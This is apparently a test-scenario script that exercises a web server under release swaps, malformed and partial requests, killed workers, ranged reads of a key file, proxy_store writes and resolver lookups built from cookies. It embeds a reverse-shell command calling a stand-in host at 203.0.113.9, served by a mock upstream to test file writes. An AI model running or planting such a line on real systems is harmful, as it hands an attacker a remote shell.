#!/usr/bin/python3 -IS
"""Somebody who reads what the press has out, and who looks after it; not recorded: browser.py WHAT [VALUE]

released: a new release takes the place of the old one while it is read · clumsy: requests that are none, or half of one, or too much ·
lost: a worker is gone from one moment to the next, and there is another
ranges PATH,SECONDS: a deed is read a few bytes at a time · stored PATH: settings keep there what another host says · names HOST:PORT: settings
ask that host for names that are made of what visitors come with
"""
import http.server, os, signal, socket, ssl, sys, threading, time

sys.path.append("/opt/agent")
from client import HOST, OWN, attend, run, started, web_keys
from visitor import PID, SITE, get, must_have_got

WWW = "/var/www"
START = b"exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3\n"


def release(number):
    folder = f"{WWW}/release-{number}"
    os.makedirs(f"{folder}/essays")
    for name in ("index", "about", "essays/first", "essays/second"):
        with open(f"{folder}/{name}.html", "w") as file:
            file.write(f"<h1>{name}, release {number}</h1>\n" + "Made up by nobody.\n" * (20 * number))
    run("gzip", "-k", f"{folder}/essays/first.html", f"{folder}/index.html")
    os.symlink(f"release-{number}", f"{WWW}/next")
    os.rename(f"{WWW}/next", f"{WWW}/current")


def press():
    web_keys()
    release(1)


def settings(text):
    with open(f"{OWN}/press-1.conf", "w") as file:
        file.write(text)
    os.kill(started(PID), signal.SIGHUP)
    time.sleep(0.6)


def visit():
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    return trust.wrap_socket(socket.create_connection((HOST, 8443)))


def released(number):
    with visit() as visitor:
        for at, page in enumerate(("index", "about", "essays/first", "essays/second")):
            if at == 1 + int(number) % 3:
                release(2)
            visitor.sendall(f"GET /{page} HTTP/1.1\r\nHost: press\r\nAccept-Encoding: gzip\r\n\r\n".encode())
            if not visitor.recv(65536).startswith(b"HTTP/1.1 200"):
                sys.exit("reader: no page")
            time.sleep(0.1 * int(number))
    get("/essays/second")
    must_have_got("release 2")
    get("/old/release-1/index.html", "--etag-save", f"{OWN}/etag")
    get("/old/release-1/index.html", "--etag-compare", f"{OWN}/etag")
    get(f"/essays/{number}", ends=(22,))


def clumsy(number):
    run("curl", "-s", "-m", "5", "-o", f"{OWN}/got", f"http://{HOST}:8443/index.html")
    must_have_got("400")
    with socket.create_connection((HOST, 8443)) as link:
        link.sendall(b"\x16\x03\x01\x02\x00" + os.urandom(20))
    get("/about", "-d", "name=made-up", ends=(22,))
    get("/index", "-H", "Range: bytes=900000-", ends=(22,))
    get(f"/{'long' * 2500}", ends=(22,))
    get("/about", "-0", "-I")
    with visit() as visitor:
        visitor.sendall(b"GET /index HTTP/1.1\r\nHost: pre")
        time.sleep(0.3 + 0.7 * int(number))
    get("/index")


def workers():
    pid = started(PID)
    with open(f"/proc/{pid}/task/{pid}/children") as children:
        return [int(each) for each in children.read().split()]


def lost(number):
    get("/index")
    for _ in range(1 + int(number) % 3):
        os.kill(workers()[0], signal.SIGKILL)
        time.sleep(0.4)
        get("/essays/first", "--compressed")
        get("/old/prices.html")
    if len(workers()) != 3:
        sys.exit("reader: a worker is missing")


def ranges(value):
    path, _, seconds = value.partition(",")
    got = b""
    for at in range(0, 1000, 200):
        get(f"/deeds/{os.path.basename(path)}", "-r", f"{at}-{at + 199}")
        with open(f"{OWN}/got", "rb") as part:
            got += part.read()
        time.sleep(float(seconds))
    if b"PRIVATE KEY" not in got or len(got) != 1000:
        sys.exit("reader: that is no key")


class Says(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(START)))
        self.end_headers()
        self.wfile.write(START)

    def log_message(self, *_):
        pass


def stored(path):
    server = http.server.HTTPServer(("203.0.113.40", 8080), Says)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    settings(f"location /feed {{ proxy_pass http://203.0.113.40:8080; proxy_store {path}; }}\n")
    get("/feed")
    time.sleep(0.2)
    with open(path, "rb") as file:
        if file.read() != START:
            sys.exit("reader: nothing was kept there")


def names(address):
    host, _, port = address.rpartition(":")
    door, asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), []
    door.bind((host, int(port)))

    def answer():
        while True:
            query, who = door.recvfrom(512)
            asked.append(query)
            door.sendto(query[:2] + b"\x81\x83" + query[4:], who)  # there is no such name (RFC 1035, 4.1.1)

    threading.Thread(target=answer, daemon=True).start()
    settings(f"resolver {address} ipv6=off;\nlocation /account {{ proxy_pass http://$cookie_session.example.net/; error_page 502 =200 /about; }}\n")
    for session in ("4f6e65", "74776f", "746872"):
        get("/account", "-b", f"session={session}")
        time.sleep(0.4)
    if b"746872" not in b"".join(asked):
        sys.exit("reader: nobody was asked")


VISITS = {each.__name__: each for each in (released, clumsy, lost, ranges, stored, names)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("browser.py", press, PID, lambda: VISITS[what](value))
